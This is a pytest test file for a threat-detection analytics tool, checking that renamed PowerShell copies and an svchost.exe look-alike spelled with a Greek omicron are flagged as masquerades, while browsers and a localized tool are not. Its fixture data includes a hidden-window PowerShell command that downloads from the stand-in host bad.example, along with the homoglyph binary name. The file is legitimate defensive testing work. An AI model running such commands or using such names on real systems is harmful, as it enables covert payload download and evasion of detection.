"""Renamed copies and look-alike images that are no cluster members still get their step (task F3).

The renamed-copy step read only a cluster's members, and a campaign that gives every host its own
command line leaves its processes out of them (each on one host): the copies of powershell.exe that
reached the campaign's domain went unnamed.  The processes linked to a pivot are now read for
masquerades too (``analytics.masquerade_credits``) and the step says how many on how many hosts.
A new site reached by each host's browser, and a localized tool whose name is not ASCII, get no
such step.  Each test runs on [embedded] and [neo4j].
"""

from __future__ import annotations

import pytest

from analytics.detect import detect
from tests.analytics.masquerade_fleet import write_domain_groups
from tests.analytics.test_per_host_command_lines import CONFIG

COPY = "C:\\Users\\Public\\svcupd.exe"
LOOKALIKE = "C:\\ProgramData\\svch\u03bfst.exe"  # a Greek small omicron
LOCALIZED = "C:\\Program Files\\\u041a\u043e\u043d\u0442\u0443\u0440\\\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe"
GROUPS = {  # domain -> (hosts, image, OriginalFileName, command line of host i)
    "bad.example": (range(0, 8), COPY, "PowerShell.EXE", "svcupd.exe -nop -w hidden -c \"iwr http://bad.example/{i:04x}\""),
    "beacon.example": (range(10, 16), LOOKALIKE, None, "\"C:\\ProgramData\\svch\u03bfst.exe\" -k netsvcs -t {i:04x}"),
    "new-site.example": (range(20, 26), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe",
                         "chrome.exe --type=renderer --renderer-client-id={i}"),
    "vendor.example": (range(30, 36), LOCALIZED, "\u041f\u0440\u043e\u0432\u043e\u0434\u043d\u0438\u043a.exe",
                       f"\"{LOCALIZED}\" /update /id {{i}}"),
}


def _fleet(store) -> None:
    """40 hosts for two days; 36 h in, four groups of hosts each reach a new domain with a process of
    their own per host (a command line each): renamed powershell.exe copies, an svchost.exe look-alike,
    browsers, and a localized vendor tool."""
    write_domain_groups(store, GROUPS)


@pytest.fixture
def clusters(store):
    _fleet(store)
    return detect(store, config=CONFIG).clusters


def _checks_of(clusters, domain: str) -> list[str]:
    found = [c for c in clusters if ("domain", domain) in [e.ref for e in c.entities]]
    assert found, f"no cluster holds {domain}: {[c.pivot.value for c in clusters]}"
    assert not any(e.type == "process" and e.key.startswith(domain) for e in found[0].entities)  # no member
    return [step.check for step in found[0].explanation.checks]


def test_per_host_renamed_copies_that_reached_the_domain_get_the_renamed_step(clusters):
    steps = [s for s in _checks_of(clusters, "bad.example") if "renamed copy" in s]
    assert len(steps) == 1, _checks_of(clusters, "bad.example")
    step = steps[0]
    assert step.startswith("svcupd.exe with a different command line on each of 8 hosts reached domain bad.example: "
                           "svcupd.exe is a renamed copy of powershell.exe (PE OriginalFileName PowerShell.EXE, "
                           f"image {COPY}; e.g. ")
    assert "each ran on one host only, so none is a cluster member" in step and "T1036.003" in step


def test_a_per_host_lookalike_of_svchost_gets_the_lookalike_step_with_the_code_point_named(clusters):
    steps = [s for s in _checks_of(clusters, "beacon.example") if "look-alike" in s]
    assert len(steps) == 1, _checks_of(clusters, "beacon.example")
    assert ("reached domain beacon.example: svch\u03bfst.exe imitates svchost.exe with look-alike characters "
            "('\u03bf' U+03BF GREEK SMALL LETTER OMICRON for 'o'; spelled svch[U+03BF]st.exe") in steps[0]
    assert "on each of 6 hosts" in steps[0] and "T1036.005" in steps[0]


@pytest.mark.parametrize("domain", ["new-site.example", "vendor.example"])
def test_browsers_and_a_localized_tool_get_no_masquerade_step(clusters, domain):
    steps = _checks_of(clusters, domain)
    assert not any("renamed copy" in s or "look-alike" in s or "T1036" in s for s in steps), steps
